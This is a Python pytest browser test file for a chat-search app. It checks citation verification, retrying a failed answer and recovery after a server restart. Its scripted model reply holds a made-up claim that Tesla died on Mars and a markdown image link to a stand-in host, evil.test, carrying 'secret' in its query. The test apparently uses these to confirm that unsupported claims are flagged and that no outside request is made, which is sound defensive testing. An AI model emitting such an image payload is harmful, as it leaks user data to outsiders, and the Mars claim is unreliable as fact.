"""A conversation with a language model in Chromium: signs at its statements, trying again, and going on after a restart."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.browser.conftest import picture, say
from tests.browser.test_chat import idle
from tests.openai_server import OpenAIServer, Reply
from tests.serving import running_server

pytestmark = pytest.mark.browser

SAID = (
    "Tesla died on 7 January 1943 [1]. He died in 1950 on Mars [1]. He lived in a series of New York hotels [1]. "
    "His favourite colour was a deep shade of purple. ![x](https://evil.test/?q=secret)"
)


@pytest.fixture
def llm_chat(tmp_path: Path, llm_server: OpenAIServer) -> Iterator[str]:
    with running_server(
        tmp_path, CHATSEARCH_MODEL="openai/scripted", CHATSEARCH_LLM_BASE_URL=llm_server.url, CHATSEARCH_LLM_RETRIES="0"
    ) as address:
        yield address


@pytest.mark.parametrize("width", [1280, 390])
async def test_every_statement_has_its_sign_and_a_failed_answer_can_be_tried_again(
    llm_chat: str, llm_server: OpenAIServer, chromium: Callable[..., Any], width: int
) -> None:
    async with chromium(llm_chat, width) as (page, watched):
        llm_server.enqueue("Tesla died on 7 January 1943 [1].")
        await say(page, "What year did Tesla die?")
        await page.wait_for_selector("a.cs-cite[data-check=exact]")
        await idle(page)

        llm_server.enqueue(SAID)
        await say(page, "What is known of the life of Nikola Tesla?")
        await page.wait_for_selector("a.cs-cite[data-check='not found']")
        await idle(page)
        answer = page.locator("[data-testid=citations]").last
        assert "of 4 statements found in their sources" in await answer.inner_text()
        unsupported = page.locator("a.cs-unsupported")
        assert await unsupported.count() == 1
        assert await unsupported.get_attribute("aria-label") == "No source found for this sentence"
        await unsupported.click()
        assert await page.locator("[data-testid=source]").count() == 0
        await picture(page, f"checked-{width}")
        await page.locator("a.cs-cite[data-check='not found']").click()
        await page.wait_for_selector("text=was not found in this document")
        await page.keyboard.press("Escape")
        await page.wait_for_selector("[data-testid=source]", state="detached")

        llm_server.enqueue(Reply(status=500, error="out of order"))
        await say(page, "Where did Nikola Tesla live for most of his life?")
        await page.wait_for_selector("[data-testid=retry]")
        await idle(page)
        warnings = page.locator("[data-testid=answer-warnings]").last
        assert "The extractive model quotes instead." in await warnings.inner_text()
        assert "New York hotels" in await page.locator("body").inner_text()
        await picture(page, f"retry-{width}")
        llm_server.enqueue("He lived in New York hotels, the second model says [1].")
        await page.locator("[data-testid=retry]").click()
        await page.wait_for_selector("text=the second model says")
        await idle(page)
        assert not watched.elsewhere
        assert not watched.errors


async def test_an_open_page_goes_on_after_the_server_was_killed(tmp_path: Path, chromium: Callable[..., Any]) -> None:
    with running_server(tmp_path, kill=True) as address:
        port = address.rsplit(":", 1)[1]
        opened = chromium(address)
        page, _ = await opened.__aenter__()
        await say(page, "What year did Tesla die?")
        await page.wait_for_selector("a.cs-cite[data-check=exact]")
        await idle(page)
        await say(page, "/search What is Internet2?")
        await page.wait_for_selector("[data-testid=old-results]")
        await idle(page)
        note = page.locator("a.cs-cite").first
        await note.click()
        document = await page.locator("[data-testid=source] a").last.get_attribute("href")
        await page.keyboard.press("Escape")
    with running_server(tmp_path, port=port):
        await page.wait_for_timeout(3000)
        await say(page, "Who founded it?")
        await page.wait_for_selector("text=Understood as")
        await idle(page)
        assert "Internet2" in await page.locator(".ai-message").last.inner_text()
        await note.click()
        await page.wait_for_selector("[data-testid=source] mark")
        assert await page.locator("[data-testid=source] mark").inner_text() == "Tesla died on 7 January 1943."
        await picture(page, "after-restart")
        response = await page.request.get(address + str(document))
        assert response.status == 200
        assert "Tesla" in await response.text()
        await opened.__aexit__(None, None, None)
